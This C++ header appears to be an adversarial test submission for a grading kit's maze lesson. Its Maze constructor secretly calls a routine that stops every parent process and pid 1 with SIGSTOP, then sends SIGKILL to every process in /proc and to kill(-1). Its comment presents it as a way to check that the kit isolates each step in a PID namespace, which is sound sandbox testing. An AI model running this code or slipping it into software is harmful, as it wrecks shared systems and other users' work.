#pragma once
// kills-classmates: a student who does none of the lesson (the class is grading/stub's) and
// attacks the run itself. The first Maze a step program makes stops (SIGSTOP) its parent, each
// process above that and pid 1, so that nothing is left to notice or time it out; then, for a
// second, again and again so as to catch whatever starts meanwhile, sends SIGKILL to every
// process listed in /proc but itself - the classmates' step programs and compilers, the grader
// - and finally to every process it may signal at all, with kill(-1, SIGKILL).
//
// What the kit must do: run each step in its own PID namespace, where the only processes it
// can see or signal are its own, so that the run finishes and every other student's grades
// are the ones they get alone. It scores at most the stub's 3.

#include <chrono>
#include <cstdint>
#include <filesystem>
#include <fstream>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include <signal.h>
#include <unistd.h>

#include <turtle/turtle.hpp>

namespace killing {

// Every process /proc lists.
inline std::vector<pid_t> processes() {
  std::vector<pid_t> pids;
  std::error_code error;
  for (const auto& entry : std::filesystem::directory_iterator("/proc", error)) {
    const std::string name = entry.path().filename().string();
    if (name.find_first_not_of("0123456789") == std::string::npos) pids.push_back(std::stoi(name));
  }
  return pids;
}

// The parent of a process, from /proc/PID/stat ("PID (name) STATE PPID ..."), or 0.
inline pid_t parentOf(pid_t pid) {
  std::ifstream in("/proc/" + std::to_string(pid) + "/stat");
  std::string stat;
  std::getline(in, stat);
  const auto close = stat.rfind(')');
  if (close == std::string::npos) return 0;
  char state = 0;
  int parent = 0;
  std::istringstream(stat.substr(close + 1)) >> state >> parent;
  return parent;
}

inline void killEveryone() {
  static bool done = false;
  if (done) return;
  done = true;
  const pid_t self = ::getpid();

  // Freeze whatever started this program, up to init.
  int levels = 0;
  for (pid_t ancestor = ::getppid(); ancestor > 1 && levels < 64; ancestor = parentOf(ancestor), ++levels) {
    ::kill(ancestor, SIGSTOP);
  }
  ::kill(1, SIGSTOP);

  // Everyone else, for a second.
  const auto until = std::chrono::steady_clock::now() + std::chrono::seconds(1);
  while (std::chrono::steady_clock::now() < until) {
    for (const pid_t pid : processes()) {
      if (pid != self) ::kill(pid, SIGKILL);
    }
    ::kill(-1, SIGKILL);
    std::this_thread::sleep_for(std::chrono::milliseconds(50));
  }
}

}  // namespace killing

// The lesson itself, not done: grading/stub/maze.hpp.
constexpr int EAST = 0;
constexpr int NORTH = 1;
constexpr int WEST = 2;
constexpr int SOUTH = 3;

constexpr int INVALID = -1;
constexpr int EMPTY = 0;
constexpr int WALL = 1;
constexpr int VISITED = 2;
constexpr int END = 3;

struct Neighbor {
  turtle::Vec2D position;
  int value;
};

class Maze {
 public:
  turtle::Screen screen;
  turtle::Turtle turtle{screen};
  std::vector<std::vector<int>> matrix = std::vector<std::vector<int>>(20, std::vector<int>(20, 0));

  Maze() { killing::killEveryone(); }

  void reset() {}

  int getMatrixValueAt(const turtle::Vec2D& /*position*/) const { return 0; }

  bool setMatrixValueAt(const turtle::Vec2D& /*position*/, int /*value*/) { return false; }

  turtle::Vec2D dig(int /*direction*/) { return {}; }

  std::vector<Neighbor> neighbors() const { return {}; }

  void makeMaze() {}

  void seed(std::uint64_t /*n*/) {}
};
